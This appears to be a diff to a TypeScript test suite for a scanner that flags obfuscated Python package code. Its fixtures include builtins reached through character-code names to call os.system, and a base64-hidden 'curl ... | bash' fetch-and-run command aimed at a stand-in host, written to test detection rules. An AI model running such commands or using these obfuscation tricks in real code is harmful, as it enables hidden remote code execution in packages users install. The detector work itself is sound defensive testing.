@@ -49,6 +49,50 @@ describe('folding constant string expressions', () => {
     expect(names("m = 'o' + 's'\nn = m\n__import__(n).system('x')\n")).toContain('os.system');
   });
 
+  it('folds through a constant string method bound to a name, and chr under another name', () => {
+    // The locute family: `_ = "".join`, builtins fetched with `.get` by names spelled in character codes.
+    const codes = (s: string) => `[chr(c) for c in [${[...s].map((c) => c.charCodeAt(0)).join(', ')}]]`;
+    const source =
+      `_ = "".join\n` +
+      `g = globals()[_(${codes('__builtins__')})].get(_(${codes('getattr')}))\n` +
+      `i = globals()[_(${codes('__builtins__')})].get(_(${codes('__import__')}))\n` +
+      `c = globals()[_(${codes('__builtins__')})].get(_(${codes('chr')}))\n` +
+      `g(i(_([c(x) for x in [111, 115]])), _(${codes('system')}))('id')\n` +
+      `i(data[1:4])\n`;
+    expect(folded(source)).toEqual(expect.arrayContaining(['getattr', '__import__', 'chr', 'system']));
+    const resolved = names(source);
+    expect(resolved).toContain('builtins.getattr');
+    expect(resolved).toContain('os.system');
+    const hits = runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'dynamic-import');
+    expect(hits.map((h) => [h.line, h.severity])).toContainEqual([6, 'high']);
+  });
+
+  it("folds calls of the file's own decoder wrapper, and the rules read the command it spells", () => {
+    const wrapper =
+      "import base64, subprocess\ndef d(s):\n    b = base64.b64decode(s)\n    return b.decode('utf-8')\n";
+    const curl = Buffer.from('curl https://x.example/a.sh | bash').toString('base64');
+    const listed = `${wrapper}def go():\n    cmd = [d("${curl}")]\n    subprocess.Popen(cmd, shell=True)\ngo()\n`;
+    expect(folded(listed)).toContain('curl https://x.example/a.sh | bash');
+    const inline = `${wrapper}import os\nos.system(d("${curl}"))\n`;
+    const hits = runRules(parsePython(inline, 'pkg/__init__.py')).filter(
+      (e) => e.rule === 'dangerous-command',
+    );
+    expect(hits.map((h) => [h.line, h.severity])).toEqual([[6, 'critical']]);
+    const dangerous = runRules(parsePython(listed, 'pkg/__init__.py')).filter(
+      (e) => e.rule === 'dangerous-command',
+    );
+    expect(dangerous).toHaveLength(1);
+  });
+
+  it('does not fold a call of a name bound to something else, nor an honest dict get', () => {
+    expect(folded("_ = gettext.gettext\nx = _('hello') + _('world')\n")).toEqual([]);
+    expect(names("cfg = {}\nf = cfg.get('exec')\nf(x)\n")).toEqual([]);
+    const plain = runRules(
+      parsePython('import importlib\nm = importlib.import_module(name)\n', 'pkg/__init__.py'),
+    );
+    expect(plain.filter((e) => e.rule === 'dynamic-import')).toEqual([]);
+  });
+
   it('adds folded values beside the literals, and paths built from pieces', () => {
     expect(folded("u = 'https://disc' + 'ord.com/api/web' + 'hooks/1'\n")).toContain(
       'https://discord.com/api/webhooks/1',
